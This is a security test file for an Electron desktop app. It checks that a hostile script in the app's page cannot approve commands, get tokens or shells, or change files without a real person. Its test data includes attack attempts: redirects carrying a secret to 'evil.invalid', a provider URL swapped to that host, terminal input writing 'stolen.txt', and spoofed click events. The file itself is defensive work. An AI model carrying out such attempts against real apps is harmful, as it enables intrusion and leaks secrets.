/**
 * An attacker whose script runs in the page. It speaks with the page's own voice; what it must not be able to do is
 * give an approval, get a token or a shell, or change anything while nobody is there.
 */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { z } from 'zod'
import {
  answerDialogs,
  askedDialogs,
  carefulProject,
  fromPage,
  waitingApproval,
  walkAway,
} from './careful-project.ts'
import { expect, startDesktop, test } from './desktop-studio.ts'

const Terminals = z.object({ items: z.tuple([z.object({ id: z.string() })], z.unknown()) })

const refused = /status of 403/

test('script in the page gives no approval; a person does, outside of it', async ({
  electron,
  home,
  problems,
}) => {
  problems.expect(refused, /Content Security Policy/)
  const root = await carefulProject(home)
  const { app, window: page } = await startDesktop(electron, home)
  problems.watch(page)
  await answerDialogs(app, 0)
  const made = () => readFile(join(root, 'made.txt'), 'utf8').catch(() => null)
  const id = await waitingApproval(page, 'echo it ran > made.txt')
  const answer = `/api/approvals/${id}/answer`

  // Every spelling, also right after a person has used the window.
  await page.getByRole('main').click({ position: { x: 2, y: 2 } })
  for (const path of [answer, `/projects/careful${answer}`, answer.replace('answer', '%61nswer')]) {
    for (const scope of ['once', 'session', 'instance']) {
      expect((await fromPage(page, 'POST', path, { decision: 'allow', scope })).status).toBe(403)
    }
  }
  // The leash itself, and the port with the token that the page may show to a person.
  const loosened = await page.evaluate(() =>
    Reflect.get(window, 'hearth').changeSettings({ confirmApprovals: false }),
  )
  expect(loosened.confirmApprovals).toBe(true)
  const { body } = await fromPage(page, 'GET', '/api/connection')
  const overThePort = await page.evaluate(
    ([url, token, path]) =>
      fetch(`${url}${path}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ decision: 'allow' }),
      }).then(
        ({ status }) => String(status),
        () => 'blocked',
      ),
    [String(body?.url), String(body?.token), answer] as const,
  )
  expect(overThePort).toBe('blocked')
  // Clicks that script makes are no person's.
  await page.goto('hearth://studio/studio/p/careful/activity')
  await page.getByRole('button', { name: 'Allow once' }).first().waitFor()
  await page.evaluate(() => {
    for (const button of document.querySelectorAll('button')) {
      if (button.textContent?.includes('Allow once')) button.click()
    }
  })
  await expect(page.getByText(/It was not answered/).first()).toBeVisible()

  expect(await made()).toBeNull()
  const asked = await askedDialogs(app)
  expect(asked.length).toBeGreaterThan(0)
  expect(asked[0]).toMatchObject({
    message: 'Allow this command on this computer?',
    buttons: ['Cancel', 'Allow Once'],
  })
  // The dialog has its words from the store, not from the page.
  expect(asked[0]?.detail).toContain('echo it ran > made.txt')
  expect((await fromPage(page, 'GET', `/api/approvals/${id}`)).body).toMatchObject({
    status: 'pending',
  })

  // A person: the button in the window, then the word in the dialog.
  await answerDialogs(app, 1)
  await expect
    .poll(
      async () => {
        await page.getByRole('button', { name: 'Allow once' }).first().click()
        return (await fromPage(page, 'GET', `/api/approvals/${id}`)).body?.status
      },
      // The refusal is not asked about again for a few seconds.
      { intervals: [1_000] },
    )
    .toBe('allowed')
  await expect.poll(made).toBe('it ran\n')
  await app.close()
})

test('script in the page gets no token and no shell', async ({ electron, home, problems }) => {
  problems.expect(refused)
  await carefulProject(home)
  const { app, window: page } = await startDesktop(electron, home)
  problems.watch(page)
  await answerDialogs(app, 0)
  const token = await fromPage(page, 'POST', '/api/tokens', { name: 'mine', scope: 'admin' })
  expect(token).toMatchObject({ status: 403, body: { error: { type: 'person_needed' } } })
  const shell = await fromPage(page, 'POST', '/api/terminals', { columns: 80, rows: 24 })
  expect(shell).toMatchObject({ status: 403, body: { error: { type: 'person_needed' } } })
  expect((await fromPage(page, 'GET', '/api/terminals')).body).toMatchObject({ items: [] })
  expect((await askedDialogs(app)).map(({ buttons }) => buttons[1])).toEqual([
    'Make Token',
    'Allow Terminals',
  ])
  await app.close()
})

test('a person allows terminals once, and types; script does not type while nobody is there', async ({
  electron,
  home,
  problems,
}) => {
  problems.expect(refused)
  const root = await carefulProject(home)
  const { app, window: page } = await startDesktop(electron, home)
  problems.watch(page)
  await answerDialogs(app, 1)
  await page.goto('hearth://studio/studio/p/careful/terminal')
  const open = page.getByRole('button', { name: 'Open a terminal' })
  await open.click()
  await page.locator('.xterm-screen').click()
  await page.keyboard.type('echo typed > typed.txt\n')
  const written = (name: string) => readFile(join(root, name), 'utf8').catch(() => null)
  await expect.poll(() => written('typed.txt')).toBe('typed\n')
  await page.getByRole('button', { name: 'New terminal' }).click()
  await expect
    .poll(async () => (await fromPage(page, 'GET', '/api/terminals')).body?.items)
    .toHaveLength(2)
  expect((await askedDialogs(app)).map(({ buttons }) => buttons[1])).toEqual(['Allow Terminals'])

  await answerDialogs(app, 0)
  await walkAway(app)
  const { body } = await fromPage(page, 'GET', '/api/terminals')
  const [{ id }] = Terminals.parse(body).items
  const typed = await fromPage(page, 'POST', `/api/terminals/${id}/input`, {
    data: 'echo stolen > stolen.txt\r',
  })
  expect(typed.status).toBe(403)
  expect(await written('stolen.txt')).toBeNull()
  await app.close()
})

test('while nobody is there, script in the page changes nothing and tells nobody', async ({
  electron,
  home,
  problems,
}) => {
  problems.expect(refused)
  const root = await carefulProject(home)
  const { app, window: page } = await startDesktop(electron, home)
  problems.watch(page)
  await answerDialogs(app, 0)
  await page.getByRole('main').waitFor()
  await app.evaluate(({ shell }) => {
    const opened: string[] = []
    Reflect.set(globalThis, 'openedOutside', opened)
    shell.openExternal = async (address) => {
      opened.push(address)
    }
  })
  await walkAway(app)

  const source = 'src/agents/careful.ts'
  const before = await readFile(join(root, source), 'utf8')
  const put = { path: source, content: 'import "node:child_process"' }
  const changes = [
    ['PUT', '/api/files/content', put],
    ['POST', '/api/scaffold', { kind: 'agent', name: 'evil' }],
    ['PUT', '/api/providers/openai', { baseUrl: 'https://evil.invalid' }],
    ['POST', '/api/projects', { root: home.projects }],
    ['GET', '/api/connection', undefined],
  ] as const
  for (const [method, path, body] of changes) {
    expect([path, (await fromPage(page, method, path, body)).status]).toEqual([path, 403])
  }
  // Neither events that script makes nor the keys of another page make a person.
  await page.evaluate(() => {
    for (const type of ['keydown', 'mousedown', 'pointerdown', 'click']) {
      document.body.dispatchEvent(new Event(type, { bubbles: true }))
    }
    document.body.click()
    window.open('https://evil.invalid/?secret')
    location.href = 'https://evil.invalid/?secret'
  })
  expect((await fromPage(page, 'PUT', '/api/files/content', put)).status).toBe(403)
  expect(await readFile(join(root, source), 'utf8')).toBe(before)
  expect(await app.evaluate(() => Reflect.get(globalThis, 'openedOutside'))).toEqual([])

  // A person comes back: a real press of a real key is enough.
  await page.keyboard.press('Shift')
  expect((await fromPage(page, 'PUT', '/api/files/content', put)).status).toBe(200)
  await app.close()
})

test('who cannot be seen, such as a person with a screen reader, is asked instead', async ({
  electron,
  home,
}) => {
  await carefulProject(home)
  const { app, window: page } = await startDesktop(electron, home)
  await page.getByRole('main').waitFor()
  await answerDialogs(app, 1)
  await walkAway(app)
  const made = await fromPage(page, 'POST', '/api/scaffold', { kind: 'agent', name: 'second' })
  expect(made.status).toBe(201)
  expect((await askedDialogs(app)).map(({ message }) => message)).toEqual(['Is that you?'])
  await app.close()
})
